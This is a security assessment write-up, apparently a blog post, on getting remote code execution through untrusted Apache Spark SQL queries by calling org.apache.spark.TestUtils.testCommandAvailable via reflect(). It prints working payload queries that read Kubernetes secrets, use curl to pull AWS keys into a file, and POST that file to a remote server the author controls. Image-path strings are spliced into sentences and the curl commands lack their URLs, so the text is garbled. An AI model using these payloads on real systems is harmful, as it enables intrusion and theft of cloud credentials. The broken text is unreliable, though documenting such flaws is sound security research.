Remote Code Execution by Abusing Apache Spark SQL

While performing a security assessment for an application, there was interesting functionality that allowed users to execute arbitrary Spark SQL queries over analytics data.


The blog post: The Dangers of Untrusted Spark SQL Input in a Shared Environment mentioned there were two functions that allowed Java code to be executed. The problem was that the java.lang.Runtime class with the getRuntime().exec() method couldn't be used as the Spark SQL functions reflect() and java_method() only allowed static methods to be called from classes without instantiating the class. I needed to find a Java class with a static method that could allow me to exploit the Spark SQL functionality.

I was able to return environment variables and system properties using the SQL queries below.

-- List environment variablesSELECT reflect('java.lang.System', 'getenv')

-- List system properties
SELECT reflect('java.lang.System', 'getProperties')

The environment variables and system properties listed didn't have anything sensitive. The system properties revealed the Spark version being used, which later helped me achieveremote code execution.

Path to Exploitation

While reviewing the Spark JavaDocs, an interesting class was discovered called org.apache.spark.TestUtils that had a static method called testCommandAvailable().

Reviewing the code on GitHub, I saw Process(command).run() that allows system commands to be executed.

A Spark SQL payload was built using this class and method to execute system commands.

I was able to disclose their Kubernetes API token and AWS keys that had an excessive amount of permissions using the following queries:

-- Read Kubernetes API token file
SELECT * FROM csv.`/var/run/secrets/`

-- Write the AWS keys to a file
SELECT reflect('org.apache.spark.TestUtils', 'testCommandAvailable', 'curl -o/opt/test.txt')

-- Send the file contents to a remote controlled server to view
SELECT reflect('org.apache.spark.TestUtils', 'testCommandAvailable', 'curl -X POST -F data=@/opt/test.txt')
Figure 1 - Disclosed AWS keys with code execution

Aftergetting their AWS keys and checking permissions, I listed all the S3 buckets these keys had access as a proof of concept for the report.

Figure2 - Listed S3 bucketsusing disclosed AWS keys